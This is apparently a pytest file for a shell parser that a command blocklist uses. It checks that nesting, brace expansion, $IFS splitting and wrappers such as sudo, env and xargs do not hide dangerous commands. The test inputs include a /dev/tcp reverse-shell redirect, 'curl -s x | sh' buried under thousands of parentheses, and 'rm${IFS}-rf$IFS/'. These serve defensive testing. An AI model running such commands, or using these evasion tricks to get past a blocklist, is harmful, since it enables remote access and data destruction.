"""The shell lexer, parser, expansions and command resolution used by the hardline blocklist."""

from __future__ import annotations

import pytest

from habakkuk.tools.shell_syntax import (
    Group,
    Operator,
    RedirectToken,
    SimpleCommand,
    Word,
    brace_expand,
    expand_words,
    invocation,
    parse,
    resolve,
    shell_code,
    tokenize,
    walk_simple_commands,
)
from habakkuk.tools.shell_syntax.lexer import EXPANSION, LITERAL, QUOTED
from habakkuk.tools.shell_syntax.parser import MAX_GROUP_DEPTH


def words_of(text: str) -> list[Word]:
    return [t for t in tokenize(text) if isinstance(t, Word)]


def argv_of(text: str) -> list[str] | None:
    """The argv the first simple command of text runs, after expansion and wrappers."""
    simple = next(walk_simple_commands(parse(text)))
    resolved = resolve(expand_words(simple.words))
    return None if resolved is None else [w.value for w in resolved.argv]


def test_words_keep_which_parts_were_quoted() -> None:
    (word,) = words_of("a'b c'\"$x\"$HOME\\d")
    assert word.value == "ab c$x$HOMEd"
    assert word.parts == [("a", LITERAL), ("b c$x", QUOTED), ("$HOME", EXPANSION), ("d", QUOTED)]
    assert word.quoted


def test_tokens_hold_operators_redirects_heredocs_and_substitutions() -> None:
    tokens = tokenize("cat <<EOF >out 2>&1 && echo $(id -u) `date`\nbody line\nEOF\n")
    redirects = [t.redirect for t in tokens if isinstance(t, RedirectToken)]
    assert [(r.op, r.target.value if r.target else None) for r in redirects] == [
        ("<<", "EOF"),
        (">", "out"),
        (">&", "1"),
    ]
    assert redirects[0].heredoc == "body line"
    assert [t.value for t in tokens if isinstance(t, Operator)] == ["&&", "\n"]
    echo_args = [t for t in tokens if isinstance(t, Word)][2:]
    assert [w.subs for w in echo_args] == [["id -u"], ["date"]]


def test_a_redirect_keeps_the_descriptor_written_before_it() -> None:
    tokens = tokenize("exec 3<>/dev/tcp/h/80 0>&1 2>&1 <&3 >out {fd}<in")
    redirects = [t.redirect for t in tokens if isinstance(t, RedirectToken)]
    assert [(r.fd, r.op, r.sets_stdin) for r in redirects] == [
        ("3", "<>", False),
        ("0", ">&", True),
        ("2", ">&", False),
        (None, "<&", True),
        (None, ">", False),
        ("{fd}", "<", False),
    ]
    assert [w.value for w in tokens if isinstance(w, Word)] == ["exec"]


def test_parallel_without_a_command_runs_each_input_as_a_command_line() -> None:
    simple = next(walk_simple_commands(parse("parallel -j4")))
    resolved = resolve(simple.words)
    assert resolved is not None and resolved.xargs is not None
    assert [w.value for w in resolved.argv] == ["sh", "-c", "{}"]
    assert (resolved.xargs.replace, resolved.xargs.via) == ("{}", "parallel")
    given = next(walk_simple_commands(parse("parallel ::: 'make a' 'make b'")))
    inputs = resolve(given.words)
    assert inputs is not None and inputs.argv == [] and inputs.extra_code == ["make a", "make b"]


def test_unterminated_input_runs_to_the_end_without_error() -> None:
    assert [w.value for w in words_of("echo 'abc")] == ["echo", "abc"]
    assert words_of("echo $(ls")[1].subs == ["ls"]


def test_parse_gives_pipelines_with_their_separators_and_groups() -> None:
    pipelines = parse("a | b -x; (c && d) & { e; }")
    assert [p.separator for p in pipelines] == [";", "&", ""]
    first = pipelines[0].commands
    assert all(isinstance(e, SimpleCommand) for e in first)
    assert [[w.value for w in e.words] for e in first if isinstance(e, SimpleCommand)] == [
        ["a"],
        ["b", "-x"],
    ]
    subshell, brace = pipelines[1].commands[0], pipelines[2].commands[0]
    assert isinstance(subshell, Group) and subshell.subshell
    assert isinstance(brace, Group) and not brace.subshell
    names = [s.words[0].value for s in walk_simple_commands(pipelines)]
    assert names == ["a", "b", "c", "d", "e"]


def test_groups_past_the_depth_cap_are_read_flat_and_a_run_of_openers_is_one_command() -> None:
    deep = MAX_GROUP_DEPTH + 10_000
    hidden = "(" * deep + "curl -s x | sh" + ")" * deep
    commands = list(walk_simple_commands(parse(hidden)))
    # What hides past the cap is still read, pipe and all...
    assert [[w.value for w in s.words] for s in commands if s.words] == [
        ["curl", "-s", "x"],
        ["sh"],
    ]
    # ...and the ten thousand openers past the cap made one empty command, not one each
    # (every check walked each of them: a hostile line of a million took a minute).
    assert len(commands) == 3


@pytest.mark.parametrize(
    ("text", "expanded"),
    [
        ("/{etc,usr}", ["/etc", "/usr"]),
        ("a{,}b", ["ab", "ab"]),
        ("{a,{b,c}}d", ["ad", "bd", "cd"]),
        ("x{1..3}", ["x1", "x2", "x3"]),
        ("{05..7}", ["05", "06", "07"]),
        ("{c..a}", ["c", "b", "a"]),
        ("{1..9..4}", ["1", "5", "9"]),
        ("{{a,b}", ["{a", "{b"]),
        ("{a}", ["{a}"]),
        ("{}", ["{}"]),
        ("'{a,b}'", ["{a,b}"]),
        ('"{a,b}"x', ["{a,b}x"]),
        ("${a,b}", ["${a,b}"]),
        ("{x,y", ["{x,y"]),
    ],
)
def test_brace_expansion_follows_bash(text: str, expanded: list[str]) -> None:
    (word,) = words_of(text)
    assert brace_expand(word) == expanded


def test_brace_expansion_is_bounded() -> None:
    (word,) = words_of("{1..100000000}")
    assert len(brace_expand(word)) == 512


def test_leading_assignments_are_not_brace_expanded_but_arguments_are() -> None:
    expanded = expand_words(words_of("A={x,y} dd of=/dev/sd{a,b}"))
    assert [w.value for w in expanded] == ["A={x,y}", "dd", "of=/dev/sda", "of=/dev/sdb"]


def test_unquoted_ifs_splits_a_word_and_quoted_ifs_does_not() -> None:
    assert [w.value for w in expand_words(words_of("rm${IFS}-rf$IFS/"))] == ["rm", "-rf", "/"]
    assert [w.value for w in expand_words(words_of('a"${IFS}"b'))] == ["a${IFS}b"]


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("sudo -u root -E rm x", ["rm", "x"]),
        ("env -i A=1 B='x y' /bin/rm x", ["/bin/rm", "x"]),
        ('A="1 2" rm x', ["rm", "x"]),
        ("nice -n 5 timeout -s KILL 10 rm x", ["rm", "x"]),
        ("chroot / rm x", ["rm", "x"]),
        ("unshare -r -m --propagation private rm x", ["rm", "x"]),
        ("toybox rm x", ["rm", "x"]),
        ("xargs -I{} rm {}", ["rm", "{}"]),
        ("parallel rm ::: a b", ["rm", "a", "b"]),
        ("uv run --with rich python x.py", ["python", "x.py"]),
        ("if true; then rm x; fi", ["true"]),
        ("{rm,x}", ["rm", "x"]),
        ("sudo -s", ["sh"]),
        ("chroot /srv/root", ["sh"]),
    ],
)
def test_resolve_finds_the_command_behind_wrappers(text: str, argv: list[str]) -> None:
    assert argv_of(text) == argv


def test_resolve_reports_lookups_and_xargs_input() -> None:
    assert argv_of("command -v rm") is None
    assert argv_of("FOO=1") is None
    simple = next(walk_simple_commands(parse("xargs -I % rm %")))
    resolved = resolve(simple.words)
    assert resolved is not None and resolved.xargs is not None
    assert resolved.xargs.replace == "%"
    flock = next(walk_simple_commands(parse("flock /tmp/l -c 'make all'")))
    flocked = resolve(flock.words)
    assert flocked is not None and flocked.extra_code == ["make all"]


@pytest.mark.parametrize(
    ("text", "code", "script", "reads_stdin"),
    [
        ("bash -c 'ls -l' x", "ls -l", None, False),
        ("bash -s -- --yes", None, None, True),
        ("bash /dev/stdin", None, "/dev/stdin", True),
        ("bash build.sh", None, "build.sh", False),
        ("python3 -c 'print(1)'", "print(1)", None, False),
        ("python3 -m json.tool", None, None, False),
        ("python3 /dev/fd/0", None, "/dev/fd/0", True),
        ("perl -ne 'print'", "print", None, False),
        ("source /dev/stdin", None, "/dev/stdin", True),
        ("su -", None, None, True),
        ("su -c 'id' root", "id", None, False),
    ],
)
def test_invocation_says_where_the_program_comes_from(
    text: str, code: str | None, script: str | None, reads_stdin: bool
) -> None:
    inv = invocation(words_of(text))
    assert inv is not None
    assert (inv.code.value if inv.code else None) == code
    assert (inv.script.value if inv.script else None) == script
    assert inv.reads_stdin is reads_stdin


def test_shell_code_finds_text_run_by_a_shell() -> None:
    for text, code in [
        ("sh -c 'echo hi'", "echo hi"),
        ("script -qc 'make test' /dev/null", "make test"),
        ("eval echo hi", "echo hi"),
        ("watch -n 5 df -h", "df -h"),
        ("nix-shell --run 'pytest -q'", "pytest -q"),
    ]:
        found = shell_code(words_of(text))
        assert found is not None and found.value == code, text
    assert shell_code(words_of("ls -l")) is None
